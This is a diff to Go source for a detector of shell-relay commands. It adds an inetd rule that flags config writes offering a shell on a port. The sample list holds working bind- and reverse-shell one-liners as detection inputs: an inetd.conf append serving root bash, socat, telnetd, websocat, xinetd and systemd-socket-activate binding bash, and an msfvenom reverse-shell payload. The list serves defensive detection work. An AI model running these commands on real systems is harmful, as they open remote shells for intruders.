@@ -37,7 +37,7 @@ var shellRelayTool = Detector{
 		"socat TCP-LISTEN:9000,fork EXEC:/opt/app/handler",
 		"busybox telnetd -l /bin/sh -p 9999",
 		"websocat ws://203.0.113.9:8080 sh-c:'exec bash -i'",
-		"systemd-socket-activate -l 4444 --inetd -a /bin/bash",
+		"echo '99 stream tcp nowait root /bin/bash bash -i' >> /etc/inetd.conf", "systemd-socket-activate -l 4444 --inetd -a /bin/bash",
 		"websocketd --port=8080 bash", "xinetd -f /dev/stdin <<< 'service x { port=4444 server=/bin/bash }'",
 		"msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.7 LPORT=1 -f elf -o /tmp/e",
 	)...),
@@ -53,6 +53,11 @@ var shellRelayTool = Detector{
 var servesShell = regexp.MustCompile(`\b(?:server\s*=\s*|nowait\s+\S+\s+)\S*/(?:ba|z|da|k)?sh\b`)
 
 func relayTool(s *command.Simple, _ track.View) *Finding {
+	for _, a := range s.Accesses() {
+		if changes(a.Op) && hasPrefixAny(a.Path, "/etc/inetd.conf", "/etc/xinetd") && servesShell.MatchString(a.Text) {
+			return say(s, coi.High, "shell offered on a port by inetd").at(a.Path, a.Op)
+		}
+	}
 	p := s.Parsed()
 	switch s.Name {
 	case "nc", "ncat", "cryptcat", "pwncat", "sbd":
